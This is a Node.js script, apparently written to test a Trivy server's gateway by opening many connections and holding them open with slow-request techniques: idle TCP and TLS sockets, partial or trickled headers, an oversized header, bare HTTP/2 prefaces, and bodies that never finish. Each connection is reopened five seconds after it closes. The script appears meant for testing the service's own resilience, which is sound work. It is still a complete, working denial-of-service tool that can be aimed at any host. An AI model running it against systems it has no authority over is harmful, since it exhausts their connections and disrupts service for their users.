// Attacks a gateway from a pod, without a token, until it is stopped: `node attack.mjs KIND HOST CONNECTIONS`. Runs in the service's Node image, so it
// imports nothing but Node's own modules. Every connection that the gateway closes is opened again five seconds later. Prints, every second, how many are open.
import { connect as connectTcp } from "node:net";
import { connect as connectTls } from "node:tls";

const [kind, host, connections] = process.argv.slice(2);
const plain = () => connectTcp({ host, port: 80 });
const secure = () => connectTls({ host, port: 443, rejectUnauthorized: false });
const http2Preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
const post = (path, headers) => `POST ${path} HTTP/1.1\r\nHost: trivy\r\n${headers}\r\n\r\n`;

/** Sends a text again and again, as fast as the receiver reads if there is no pause. */
const repeat = (text, pause) => (socket) => {
  const timer = setInterval(() => socket.writableLength < 2 ** 16 && socket.write(text), pause);
  socket.on("close", () => clearInterval(timer));
};

const attacks = {
  "idle-tcp": [plain],
  "idle-before-tls": [() => connectTcp({ host, port: 443 })],
  "idle-after-tls": [secure],
  "half-header": [plain, post("/twirp/trivy.cache.v1.Cache/PutBlob", "X: y").slice(0, -2)],
  "slow-header": [plain, "POST / HTTP/1.1\r\n", repeat("A: b\r\n", 1000)],
  "huge-header": [plain, `GET /version HTTP/1.1\r\nHost: trivy\r\nX: ${"x".repeat(2 ** 20)}`],
  http2: [plain, http2Preface],
  "http2-over-tls": [secure, http2Preface],
  "body-without-end": [plain, post("/twirp/trivy.cache.v1.Cache/PutBlob", "Content-Length: 100000000000"), repeat("x".repeat(1024), 100)],
  "slow-body": [plain, post("/version", "Content-Length: 5000"), repeat("x", 1000)],
  "chunked-body": [plain, post("/version", "Transfer-Encoding: chunked"), repeat("1\r\nx\r\n", 1000)],
  "missing-body": [plain, post("/version", "Content-Length: 10")],
};
const [open, text, then] = attacks[kind];

let current = 0;
function attack() {
  const socket = open();
  let counted = false;
  socket.on(open === secure ? "secureConnect" : "connect", () => {
    counted = true;
    current++;
    if (text) socket.write(text, "latin1");
    then?.(socket);
  });
  socket.on("error", () => {});
  socket.on("data", () => {});
  socket.on("close", () => {
    if (counted) current--;
    setTimeout(attack, 5000);
  });
}
// Opened within ten seconds, so that the cost of the attack itself does not disturb the measurement.
for (let index = 0; index < Number(connections); index++) setTimeout(attack, Math.random() * 10_000);
setInterval(() => console.log(current), 1000);
